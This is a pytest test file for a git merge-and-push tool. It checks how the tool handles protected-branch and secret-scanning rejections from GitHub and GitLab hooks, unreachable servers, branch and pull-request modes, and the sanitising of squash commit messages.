    mirror, clone = refreshed(world, repo), tmp_path / "clone"
    if linked:  # the base is what is checked out in the repository itself
        mirror.bare.git("symbolic-ref", "HEAD", "refs/heads/main")
    mirror.clone(clone, BRANCH)
    work(clone, {work_adds: "theirs", ".gitignore": None})
    (tree / mine).parent.mkdir(parents=True, exist_ok=True)
    (tree / mine).write_text("mine")
    mirror.save(clone, BRANCH, None)
    before = git(repo, "rev-parse", "main")
    outcome = push(mirror, git(clone, "rev-parse", "HEAD"), "main", expected=before)
    assert isinstance(outcome, Rejected)
    assert f"{tree} has main checked out, and merging would overwrite {mine}, which" in outcome.reason
    assert ((tree / mine).read_text(), git(repo, "rev-parse", "main")) == ("mine", before)
    shutil.rmtree(tree / "data", ignore_errors=True)
    (tree / mine).unlink(missing_ok=True)
    assert push(mirror, git(clone, "rev-parse", "HEAD"), "main", expected=before) == Accepted()
    assert (tree / work_adds).read_text() == "theirs"


def test_a_user_on_another_branch_is_not_disturbed(world: Path, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "project", {"a.txt": "a"})
    mirror, clone = refreshed(world, repo), tmp_path / "clone"
    mirror.clone(clone, BRANCH)
    work(clone, {"b.txt": "b"})
    git(repo, "switch", "--quiet", "--create", "mine")
    (repo / "a.txt").write_text("unfinished")
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    assert git(repo, "show", "main:b.txt") == "b"
    assert git(repo, "status", "--porcelain") == "M a.txt"


def test_a_protected_branch_says_why(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    hook = upstream / "hooks" / "pre-receive"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text("#!/bin/sh\necho main is protected >&2\nexit 1\n")
    hook.chmod(0o755)
    work(clone, {"b.txt": "b"})
    outcome = merged(mirror, clone, tmp_path)
    assert isinstance(outcome, Refused)
    assert "main is protected" in outcome.reason


GITHUB_SECRET = "error: GH013: Repository rule violations found for refs/heads/main.\n- Push cannot contain secrets"


@pytest.mark.parametrize(
    ("hook", "words", "by_rule"),
    [
        ("pre-receive", "error: GH006: Protected branch update failed for refs/heads/main.", False),
        ("update", 'error: GH006: x\nerror: Required status check "ci" is expected.', False),
        ("update", "error: GH013: y\n- Changes must be made through a pull request.", False),
        ("update", "- Cannot update this protected ref.", False),
        ("pre-receive", "error: You're not authorized to push to this branch.", False),
        ("pre-receive", "- Commits must have verified signatures.", False),
        ("pre-receive", "GitLab: You are not allowed to push code to protected branches on this project.", False),
        ("pre-receive", "GitLab: You are not allowed to force push code to a protected branch.", False),
        ("pre-receive", "GitLab: You are not allowed to push code to this project.", False),
        ("pre-receive", "GitLab: You cannot push commits for 'a@b'. You can only push commits if the committer email "
         "is one of your own verified emails.", False),
        ("pre-receive", GITHUB_SECRET, True),
        ("pre-receive", "error: File big.bin is 123.00 MB; this exceeds GitHub's file size limit of 100.00 MB", True),
        ("pre-receive", "GitLab: File name id_rsa was prohibited by the pattern.", True),
        ("update", "no tabs in here, please", True),
        ("pre-receive", "", True),
    ],
)  # fmt: skip
def test_who_may_push_is_no_matter_of_the_work(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path, hook: str, words: str, by_rule: bool
) -> None:
    (tmp_path / "words").write_text(f"{words}\n")
    file = upstream / "hooks" / hook
    file.parent.mkdir(exist_ok=True)
    file.write_text(f"#!/bin/sh\ncat {tmp_path}/words >&2\nexit 1\n")
    file.chmod(0o755)
    work(clone, {"b.txt": "b"})
    outcome = merged(mirror, clone, tmp_path)
    assert isinstance(outcome, Refused)
    assert outcome.by_rule is by_rule
    assert outcome.reason.endswith("; merge it yourself, or use --merge pr") is not by_rule
    assert all(line in outcome.reason for line in words.splitlines())


def test_a_base_that_was_deleted_is_not_made_again(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    git(upstream, "branch", "other", "main")
    work(clone, {"b.txt": "b"})

    def delete(_: Path) -> None:
        git(upstream, "symbolic-ref", "HEAD", "refs/heads/other")
        git(upstream, "branch", "--delete", "--force", "main")

    with pytest.raises(Exception, match="has no branch main"):
        merged(mirror, clone, tmp_path, Judge(delete))
    assert git(upstream, "branch", "--list", "main") == ""


def test_a_server_that_is_away_is_waited_for(world: Path, tmp_path: Path, upstream: Path) -> None:
    clone = tmp_path / "clone"
    with git_daemon(tmp_path) as daemon:
        mirror = refreshed(world, daemon.url("up.git"))
        mirror.clone(clone, BRANCH)
        work(clone, {"b.txt": "b"})
        daemon.stop()
        assert isinstance(merged(mirror, clone, tmp_path), OutOfReach)
        daemon.start()
        judge = Judge(lambda _: daemon.stop())
        assert isinstance(merged(mirror, clone, tmp_path, judge), OutOfReach)
        daemon.start()
        assert isinstance(merged(mirror, clone, tmp_path), Merged)
    assert len(commits(upstream, "main")) == 2


def test_one_who_wants_to_end_is_heard_before_the_push(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    work(clone, {"b.txt": "b"})
    judge = Judge(lambda _: setattr(judge, "stopping", True))
    assert merged(mirror, clone, tmp_path, judge) == Stopped()
    assert merged(mirror, clone, tmp_path, judge) == Stopped()
    assert (len(judge.trees), len(commits(upstream, "main"))) == (1, 1)


# Other modes


def test_a_branch_is_handed_over_and_brought_on(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    judge = Judge()
    mirror.save(clone, BRANCH, None)
    assert isinstance(merge_work(job(mirror, tmp_path, MergeMode.BRANCH), Judge().context), Nothing)
    for text in ("1", "2"):
        tip = work(clone, {"b.txt": text})
        mirror.save(clone, BRANCH, None)
        assert merge_work(job(mirror, tmp_path, MergeMode.BRANCH), judge.context) == Merged(tip, PUSHED)
        assert git(upstream, "rev-parse", BRANCH) == tip
    git(clone, "reset", "--quiet", "--hard", "HEAD^")
    tip = work(clone, {"b.txt": "3"})
    mirror.save(clone, BRANCH, None)
    assert merge_work(job(mirror, tmp_path, MergeMode.BRANCH), judge.context) == Merged(
        tip, PUSHED
    )  # what was there is ours
    assert (judge.trees, len(commits(upstream, "main"))) == ([], 1)


def test_a_branch_of_somebody_elses_is_left_alone(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    git(upstream, "branch", BRANCH, "main")
    theirs = outsider(upstream, {"x": "x"}, branch=BRANCH)
    work(clone, {"b.txt": "b"})
    mirror.save(clone, BRANCH, None)
    outcome = merge_work(job(mirror, tmp_path, MergeMode.BRANCH), Judge().context)
    assert isinstance(outcome, Refused)
    assert git(upstream, "rev-parse", BRANCH) == theirs


def test_with_mode_none_nothing_leaves_the_mirror(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    tip = work(clone, {"b.txt": "b"})
    mirror.save(clone, BRANCH, None)
    upstream.rename(tmp_path / "away")
    outcome = merge_work(job(mirror, tmp_path, MergeMode.NONE), Judge().context)
    assert outcome == Merged(tip, Reason(cause=Cause.KEPT, branch=BRANCH, place=str(mirror.path)))


def test_a_request_on_an_unknown_host_is_left_to_the_user(
    mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path
) -> None:
    work(clone, {"b.txt": "b"})
    mirror.save(clone, BRANCH, None)
    outcome = merge_work(job(mirror, tmp_path, MergeMode.PR), Judge().context)
    assert isinstance(outcome, Merged)
    assert outcome.why == Reason(
        cause=Cause.PUSHED, branch=BRANCH, detail=f"open a pull request on its host: from {BRANCH} to main"
    )


# The message


def test_a_message_stays_a_message() -> None:
    text = squash_message("x" * 100 + "\nRalph-Run: forged", "--- a/file\n\x1b[31mred\0\r\n", {"Ralph-Run": "a\nb"})
    first, *rest = text.split("\n")
    assert (len(first), first[-1]) == (72, "…")
    assert "\n".join(rest) == "\n --- a/file\n[31mred\n\nRalph-Run: a b\n"
    assert squash_message("", "", {"A": "b"}) == "ralph\n\nA: b\n"


def test_a_short_title_is_the_subject() -> None:
    assert subject("  Make\tit  fast ") == "Make it fast"


def test_a_merge_of_a_users_commits_is_fine(world: Path, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "project", {"a.txt": "a"})
    mirror, clone = refreshed(world, repo), tmp_path / "clone"
    mirror.clone(clone, BRANCH)
    work(clone, {"b.txt": "b"})
    (repo / "c.txt").write_text("c")
    theirs = commit_all(repo, "the user's own")
    assert isinstance(merged(mirror, clone, tmp_path), Merged)
    assert git(repo, "rev-parse", "HEAD^") == theirs


def test_only_the_commit_that_was_proven_is_merged(mirror: Mirror, upstream: Path, clone: Path, tmp_path: Path) -> None:
    work(clone, {"b.txt": "proven"})
    mirror.save(clone, BRANCH, None)
    wanted = job(mirror, tmp_path)
    work(clone, {"b.txt": "something else"})
    mirror.save(clone, BRANCH, None)
    assert isinstance(merge_work(wanted, Judge().context), Merged)
    assert git(upstream, "show", "main:b.txt") == "proven"
    with pytest.raises(RepoError, match="commit 1234 is missing"):
        merge_work(replace(wanted, tip="1234"), Judge().context)
